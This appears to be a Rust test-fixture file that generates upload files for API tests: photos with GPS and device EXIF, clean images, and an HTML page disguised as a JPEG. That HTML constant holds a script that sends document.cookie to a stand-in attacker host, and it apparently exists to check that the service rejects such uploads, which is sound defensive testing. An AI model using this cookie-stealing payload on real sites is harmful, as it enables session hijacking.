#![allow(dead_code)]
//! Files to upload in the API tests: photos as phones send them (with the GPS position and the device in
//! their EXIF), a clean photo, a PNG, and an HTML page dressed as a photo.

use std::io::Cursor;

use exif::experimental::Writer;
use exif::{Field, In, Rational, Tag, Value};
use image::{DynamicImage, ImageFormat, RgbImage};
use img_parts::ImageEXIF;
use img_parts::jpeg::Jpeg;

/// The device the generated photos claim to come from; no kept copy may contain it.
pub const DEVICE: &str = "TestPhone";

/// An HTML page, to be uploaded as photo.jpg: it must not be kept as an image nor served inline.
pub const HTML_AS_JPEG: &[u8] = b"<!DOCTYPE html>\n<html><head><title>photo</title></head>\
<body><script>document.location='https://example.invalid/?c='+document.cookie</script></body></html>\n";

/// A 64x48 coloured JPEG with an Exif block holding the GPS position (S and W as negatives) and the
/// Make/Model "TestPhone".
pub fn jpeg_with_gps(lat: f64, lon: f64) -> Vec<u8> {
    let mut jpeg = Jpeg::from_bytes(plain_jpeg().into()).expect("the image crate's JPEG");
    jpeg.set_exif(Some(exif_with_gps(lat, lon).into()));
    jpeg.encoder().bytes().to_vec()
}

/// The same 64x48 JPEG without any metadata.
pub fn plain_jpeg() -> Vec<u8> {
    let mut out = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut out, 90)
        .encode_image(&colourful(64, 48))
        .expect("encode JPEG");
    out
}

/// A 64x48 coloured PNG without metadata.
pub fn png_image() -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(colourful(64, 48))
        .write_to(&mut out, ImageFormat::Png)
        .expect("encode PNG");
    out.into_inner()
}

/// A raw Exif (TIFF) block: Make and Model, GPS latitude and longitude as degrees, minutes, seconds.
pub fn exif_with_gps(lat: f64, lon: f64) -> Vec<u8> {
    let ascii = |tag, text: &str| Field {
        tag,
        ifd_num: In::PRIMARY,
        value: Value::Ascii(vec![text.as_bytes().to_vec()]),
    };
    let rational = |tag, value: f64| Field {
        tag,
        ifd_num: In::PRIMARY,
        value: Value::Rational(dms(value)),
    };
    let fields = [
        ascii(Tag::Make, DEVICE),
        ascii(Tag::Model, DEVICE),
        ascii(Tag::GPSLatitudeRef, if lat < 0.0 { "S" } else { "N" }),
        rational(Tag::GPSLatitude, lat),
        ascii(Tag::GPSLongitudeRef, if lon < 0.0 { "W" } else { "E" }),
        rational(Tag::GPSLongitude, lon),
    ];
    let mut writer = Writer::new();
    for field in &fields {
        writer.push_field(field);
    }
    let mut out = Cursor::new(Vec::new());
    writer.write(&mut out, false).expect("write Exif");
    out.into_inner()
}

/// Unsigned degrees, minutes and seconds (to a ten-thousandth of a second) of a coordinate.
fn dms(value: f64) -> Vec<Rational> {
    let value = value.abs();
    let degrees = value.trunc();
    let minutes = ((value - degrees) * 60.0).trunc();
    let seconds = ((value - degrees) * 60.0 - minutes) * 60.0;
    vec![
        Rational {
            num: degrees as u32,
            denom: 1,
        },
        Rational {
            num: minutes as u32,
            denom: 1,
        },
        Rational {
            num: (seconds * 10_000.0).round() as u32,
            denom: 10_000,
        },
    ]
}

/// Gradients, so that a decoded image shows whether its pixels survived.
fn colourful(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([
            (x * 255 / width) as u8,
            (y * 255 / height) as u8,
            ((x + y) % 256) as u8,
        ])
    })
}
